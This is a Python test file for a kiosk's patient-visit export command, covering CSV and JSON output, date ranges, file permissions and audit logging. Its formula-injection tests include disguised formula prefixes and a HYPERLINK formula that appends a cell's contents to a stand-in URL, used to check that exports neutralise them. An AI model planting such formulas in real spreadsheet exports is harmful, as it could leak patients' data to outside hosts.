"""``kiosk export``: visits for a spreadsheet or another program."""

import csv
import json
import time
from collections.abc import Iterable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import IO

import msgspec
import pytest
from command_samples import ANSWERS, execute, fill, use_clean_environment

from kiosk.command.cli import main
from kiosk.command.office import export as verb
from kiosk.desk.export.as_csv import COLUMNS, safe
from kiosk.desk.export.cells import answer_in_text
from kiosk.desk.export.days import Days
from kiosk.desk.export.export import FORMATS, export_visits
from kiosk.desk.export.format import Format
from kiosk.records.visits import FinishedVisit, StoredVisit, ToolRecord
from kiosk.store.visits import A_PAGE, VisitStore


@pytest.fixture(autouse=True)
def _clean(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    use_clean_environment(monkeypatch, tmp_path)


def export(tmp_path: Path, *options: object, name: str = "visits.csv") -> Path:
    file = tmp_path / name
    call = ["export", "--data-dir", tmp_path / "data", "-o", file, *options]
    assert main([str(part) for part in call]) == 0
    return file


def refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], *options: object) -> str:
    call = ["export", "--data-dir", tmp_path / "data", "--format", "csv", *options]
    assert main([str(part) for part in call]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    (line,) = err.splitlines()
    return str(line)


def rows(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as content:
        return list(csv.DictReader(content))


def change(folder: Path, **changes: object) -> None:
    """Save the newest visit once more, a minute later, with something else in it."""
    with VisitStore.open(folder) as store:
        visit = next(reversed(list(store.every(*ALL_TIMES)))).visit
        minute = timedelta(minutes=1)
        later = {"started": visit.started + minute, "finished": visit.finished + minute}
        store.save(msgspec.structs.replace(visit, **(later | changes)))


ALL_TIMES = (datetime(1, 1, 1, tzinfo=UTC), datetime(9999, 1, 1, tzinfo=UTC))


def test_a_spreadsheet_has_a_row_for_each_answer(tmp_path: Path) -> None:
    (code,) = fill(tmp_path / "data")
    found = rows(export(tmp_path, "--format", "csv"))
    assert tuple(found[0]) == COLUMNS
    assert {row["question"] for row in found} <= set(ANSWERS)
    assert found[0] == {
        "code": code,
        "reference": "",
        "started": "2026-05-14T10:01:00Z",
        "finished": "2026-05-14T10:02:00Z",
        "language": "en",
        "partial": "yes",
        "alert_level": "A",
        "assessment": "spine-check",
        "version": found[0]["version"],
        "question": "reason",
        "answer": "came_back",
    }
    answers = {row["question"]: row["answer"] for row in found}
    assert answers["goal_words"] == "Walk to the shops"
    assert answers["pain_leg"] == "7"
    assert answers["nerve_signs"] == "below_knee; numb; electric"
    assert answers["where"] == "low_back: aching; calf_left: burning"


def test_a_body_map_with_and_without_feelings_can_be_read() -> None:
    marked = {"low_back": ["aching", "burning"], "calf_left": [], "foot_left": ["numb"]}
    assert answer_in_text(marked) == "low_back: aching, burning; calf_left; foot_left: numb"


def test_a_visit_without_any_answer_has_a_row_too(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    change(tmp_path / "data", tools=())
    change(tmp_path / "data", tools=(ToolRecord("spine-check", 3, {}, True, None),))
    last = rows(export(tmp_path, "--format", "csv"))[-2:]
    assert [(row["assessment"], row["question"], row["answer"]) for row in last] == [
        ("", "", ""),
        ("spine-check", "", ""),
    ]


def test_a_spreadsheet_is_what_excel_reads_without_asking(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    change(tmp_path / "data", reference='Ünï, "7"')
    content = export(tmp_path, "--format", "csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfcode,reference,")
    assert content.count(b"\n") == content.count(b"\r\n")
    assert 'Ünï, ""7""'.encode() in content


FORMULAS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "  =1+1"),
    *("\N{NO-BREAK SPACE}=1", "\N{ZERO WIDTH NO-BREAK SPACE}=1", "\N{ZERO WIDTH SPACE}=1"),
    *("\N{FULLWIDTH EQUALS SIGN}1", "\N{FULLWIDTH PLUS SIGN}1", "\N{FULLWIDTH HYPHEN-MINUS}1"),
    *("\N{FULLWIDTH COMMERCIAL AT}A", " \N{FULLWIDTH EQUALS SIGN}1"),
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_a_patient_types_is_run_as_a_formula(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", " ", "7", "a=b", "Walk - slowly", "low_back: aching", "'=1"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_every_cell_of_the_file_is_safe(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    words = '=HYPERLINK("http://example.org/?"&A1)'
    tool = ToolRecord("spine-check", 3, {"goal_words": words, "nerve": ["=1", "b"]}, True, None)
    change(tmp_path / "data", tools=(tool,), reference="-12")
    found = rows(export(tmp_path, "--format", "csv"))[-2:]
    assert [row["answer"] for row in found] == [f"'{words}", "'=1; b"]
    assert {row["reference"] for row in found} == {"'-12"}


def test_json_is_one_document_with_visits_tools_and_answers(tmp_path: Path) -> None:
    codes = fill(tmp_path / "data", visits=2)
    document = json.loads(export(tmp_path, "--format", "json").read_text(encoding="utf-8"))
    assert (document["from"], document["to"]) == (None, None)
    assert [visit["code"] for visit in document["visits"]] == codes
    visit = document["visits"][0]
    assert visit["finished"] == "2026-05-14T10:02:00Z"
    assert "summary" not in visit
    (tool,) = visit["tools"]
    assert tool["assessment"] == "spine-check"
    assert tool["answers"]["where"] == ANSWERS["where"]
    assert tool["answers"]["pain_back"] == 4


def test_an_export_of_nothing_is_a_whole_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    VisitStore.open(tmp_path / "data").close()
    assert rows(export(tmp_path, "--format", "csv")) == []
    empty = json.loads(export(tmp_path, "--format", "json", name="visits.json").read_text())
    assert empty["visits"] == []
    assert f"0 visits in {tmp_path / 'visits.csv'}" in capsys.readouterr().out


@pytest.fixture
def a_year(tmp_path: Path) -> list[str]:
    """A visit at noon, by the clock on the wall, of every day of a year: the days."""
    fill(tmp_path / "data")
    with VisitStore.open(tmp_path / "data") as store:
        (stored,) = store.every(*ALL_TIMES)
        store.desk.delete(stored.id, stored.visit.started, "a test", "to begin with nothing")
        first = datetime(2026, 1, 1, 12).astimezone()
        for day in range(365):
            store.save(at(stored.visit, (first + timedelta(days=day)).astimezone(UTC)))
    assert A_PAGE < 365
    return [f"{date(2026, 1, 1) + timedelta(days=day)}" for day in range(365)]


def at(visit: FinishedVisit, moment: datetime) -> FinishedVisit:
    return msgspec.structs.replace(visit, started=moment, finished=moment)


@pytest.mark.parametrize(
    ("first", "last"),
    [
        (None, None),
        ("2026-03-01", None),
        (None, "2026-03-01"),
        ("2026-03-01", "2026-03-31"),
        ("2026-07-04", "2026-07-04"),
        ("2025-01-01", "2025-12-31"),
        ("2026-12-31", "9000-01-01"),
    ],
)
def test_a_range_of_days_has_every_visit_of_them_once(
    tmp_path: Path, a_year: list[str], first: str | None, last: str | None
) -> None:
    options = [*(("--from", first) if first else ()), *(("--to", last) if last else ())]
    file = export(tmp_path, "--format", "json", *options)
    found = [visit["finished"][:10] for visit in json.loads(file.read_text())["visits"]]
    assert found == [day for day in a_year if (first or "0") <= day <= (last or "9")]


def test_a_day_begins_and_ends_at_midnight_by_the_clock_on_the_wall(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(tmp_path / "data")
    before_midnight = datetime(2026, 5, 20, 23, 59, 59, tzinfo=UTC)
    for moment in (before_midnight, before_midnight + timedelta(seconds=1)):
        change(tmp_path / "data", started=moment, finished=moment)
    monkeypatch.setenv("TZ", "America/New_York")  # Only new processes look at it.
    time.tzset()
    try:
        file = export(tmp_path, "--format", "json", "--from", "2026-05-20", "--to", "2026-05-20")
    finally:
        monkeypatch.undo()
        time.tzset()
    # In New York both are in the evening of the 20th.
    assert len(json.loads(file.read_text())["visits"]) == 2


def test_an_export_is_for_its_owner_alone_and_leaves_nothing_beside_it(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    file = export(tmp_path, "--format", "csv")
    assert file.stat().st_mode & 0o777 == 0o600
    assert sorted(path.name for path in tmp_path.iterdir()) == ["data", "visits.csv"]


def test_a_file_that_is_there_is_replaced_only_by_force(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fill(tmp_path / "data")
    file = tmp_path / "visits.csv"
    file.write_text("older")
    line = refused(tmp_path, capsys, "-o", file)
    assert line == f"{file}: there is such a file already; --force replaces it"
    assert file.read_text() == "older"
    with VisitStore.open(tmp_path / "data") as store:
        assert [entry.did for entry in store.trail.newest(9)] == ["visit saved"]
    assert rows(export(tmp_path, "--format", "csv", "--force"))
    assert file.stat().st_mode & 0o777 == 0o600


def test_an_export_that_cannot_be_written_is_refused_and_not_noted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fill(tmp_path / "data")
    missing = tmp_path / "none" / "visits.csv"
    reason = "cannot be written: No such file or directory"
    assert refused(tmp_path, capsys, "-o", missing) == f"{missing}: {reason}"
    inside = tmp_path / "data" / "visits.db" / "visits.csv"
    reason = "cannot be written: Not a directory"
    assert refused(tmp_path, capsys, "-o", inside) == f"{inside}: {reason}"
    with VisitStore.open(tmp_path / "data") as store:
        assert [entry.did for entry in store.trail.newest(9)] == ["visit saved"]


def test_a_range_that_ends_before_it_begins_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fill(tmp_path / "data")
    days = ("--from", "2026-05-02", "--to", "2026-05-01")
    line = refused(tmp_path, capsys, "-o", tmp_path / "visits.csv", *days)
    assert line == "--from 2026-05-02 is after --to 2026-05-01"


def test_every_format_there_is_can_be_asked_for() -> None:
    (offered,) = [each for each in verb.arguments if each.names == ("--format",)]
    assert offered.details["choices"] == tuple(FORMATS)


def test_a_format_from_elsewhere_is_written_whole_and_noted_as_any_other(tmp_path: Path) -> None:
    def write(file: IO[str], visits: Iterable[StoredVisit], days: Days) -> int:
        codes = [stored.visit.code for stored in visits]
        file.write(f"{days.first}: {' '.join(codes)}")
        return len(codes)

    (code,) = fill(tmp_path / "data")
    file = tmp_path / "visits.txt"
    with VisitStore.open(tmp_path / "data") as store:
        days, plain = Days(date(2026, 5, 1)), Format("plain", "utf-8", write)
        assert export_visits(store, file, plain, days, datetime.now(UTC), "Sam Lee") == 1
        (entry,) = store.trail.newest(1)
    assert file.read_text() == f"2026-05-01: {code}"
    assert file.stat().st_mode & 0o777 == 0o600
    assert (entry.did, entry.about["format"]) == ("visits exported", "plain")


def test_a_damaged_visit_ends_the_export_and_leaves_no_part_of_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fill(tmp_path / "data", visits=2)
    execute(tmp_path / "data", "UPDATE visit_payload SET answers = '[7]' WHERE visit_id = 2")
    line = refused(tmp_path, capsys, "-o", tmp_path / "visits.csv")
    assert "visit 2 cannot be read" in line
    assert [path.name for path in tmp_path.iterdir()] == ["data"]


def test_an_export_is_noted_in_the_trail(tmp_path: Path) -> None:
    fill(tmp_path / "data", visits=2)
    export(tmp_path, "--format", "csv", "--from", "2026-05-01")
    with VisitStore.open(tmp_path / "data") as store:
        (entry,) = store.trail.newest(1)
    assert entry.did == "visits exported"
    assert entry.who.startswith("command line (")
    assert entry.about == {
        "count": 2,
        "format": "csv",
        "file": "visits.csv",
        "from": "2026-05-01",
        "to": "now",
    }


def test_a_file_name_alone_is_in_the_folder_where_one_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    fill(tmp_path / "data")
    assert main(["export", "--format", "csv", "-o", "x.csv", "--data-dir", "data"]) == 0
    assert (tmp_path / "x.csv").is_file()
